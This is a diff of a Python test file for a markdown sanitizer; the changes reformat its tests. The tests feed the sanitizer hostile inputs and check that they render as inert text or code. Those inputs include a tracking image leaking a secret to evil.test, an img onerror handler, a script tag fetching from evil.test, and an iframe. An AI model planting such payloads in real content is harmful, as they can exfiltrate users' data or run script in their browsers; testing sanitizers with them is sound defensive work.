@@ -14,8 +14,11 @@ from markdown_it import MarkdownIt
 from vireo.ui.safe_markdown import escape_text, safe_markdown
 
 RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
-LOADING_OR_ACTIVE = re.compile(r"<(img|a|script|iframe|object|embed|link|style|svg|video|audio|source|form|"
-                               r"input|meta|base|div|span|b)\b", re.IGNORECASE)
+LOADING_OR_ACTIVE = re.compile(
+    r"<(img|a|script|iframe|object|embed|link|style|svg|video|audio|source|form|"
+    r"input|meta|base|div|span|b)\b",
+    re.IGNORECASE,
+)
 
 HOSTILE = {
     "image": "look ![tracker](http://evil.test/t.png?q=secret) here",
@@ -28,7 +31,7 @@ HOSTILE = {
     "email autolink": "<someone@evil.test>",
     "html image": '<img src="http://evil.test/i.png" onerror="alert(1)">',
     "script": "<script>fetch('http://evil.test/s')</script>",
-    "html block": "<div>\n<iframe src=\"http://evil.test/f\"></iframe>\n</div>",
+    "html block": '<div>\n<iframe src="http://evil.test/f"></iframe>\n</div>',
     "inline html": "text <b>bold</b> <a href='http://evil.test'>a</a>",
     "comment": "<!-- hidden --> after",
     "entity-encoded image": "&#33;[x](http://evil.test/e.png)",
@@ -68,8 +71,10 @@ def test_an_image_is_shown_as_its_markdown_with_the_url_as_code():
 def test_bare_urls_and_addresses_are_code_not_links():
     # Streamlit's GFM links any bare URL in text, escaped or not; code is never linked
     shown = html_of(safe_markdown("See https://docs.example/a?b=1. Or www.example.org, or me@example.com!"))
-    assert shown == ("<p>See <code>https://docs.example/a?b=1</code>. Or <code>www.example.org</code>, "
-                     "or <code>me@example.com</code>!</p>\n")
+    assert shown == (
+        "<p>See <code>https://docs.example/a?b=1</code>. Or <code>www.example.org</code>, "
+        "or <code>me@example.com</code>!</p>\n"
+    )
 
 
 def test_html_tags_are_shown_as_text():
@@ -80,12 +85,16 @@ def test_html_tags_are_shown_as_text():
 CODE = "def f(a):\n    return a[0](1) < 2  # ![x](http://evil.test/p.png) <b>\n```\n````\n"
 
 
-@pytest.mark.parametrize("document", [
-    f"`````python\n{CODE}`````\n",
-    f"1. step one\n\n   `````python\n   {CODE.replace(chr(10), chr(10) + '   ')}`````\n",
-    f"> `````\n> {CODE.replace(chr(10), chr(10) + '> ')}`````\n",
-    "    indented(code) < 1 ![x](http://evil.test/i.png)\n",
-], ids=["top level", "in a list", "in a quote", "indented"])
+@pytest.mark.parametrize(
+    "document",
+    [
+        f"`````python\n{CODE}`````\n",
+        f"1. step one\n\n   `````python\n   {CODE.replace(chr(10), chr(10) + '   ')}`````\n",
+        f"> `````\n> {CODE.replace(chr(10), chr(10) + '> ')}`````\n",
+        "    indented(code) < 1 ![x](http://evil.test/i.png)\n",
+    ],
+    ids=["top level", "in a list", "in a quote", "indented"],
+)
 def test_code_keeps_every_character(document):
     original = [t for t in RENDER.parse(document) if t.type in ("fence", "code_block")]
     safe = [t for t in RENDER.parse(safe_markdown(document)) if t.type in ("fence", "code_block")]
@@ -109,7 +118,7 @@ FORMATTED = [
     "***\n\ntext after a rule\n\n---\n",
     "Prices: $5 and $10, 100% sure, 3 < 4 > 2, a_b_c, snake_case, 2 * 3 * 4.\n",
     "1986. A great year.\n\n\\- not a list\n\n\\# not a heading\n",
-    "Dear reader,\nThe answer is:\n```json\n{\"a\": [1, 2]}\n```\nThanks.",
+    'Dear reader,\nThe answer is:\n```json\n{"a": [1, 2]}\n```\nThanks.',
 ]
 
 
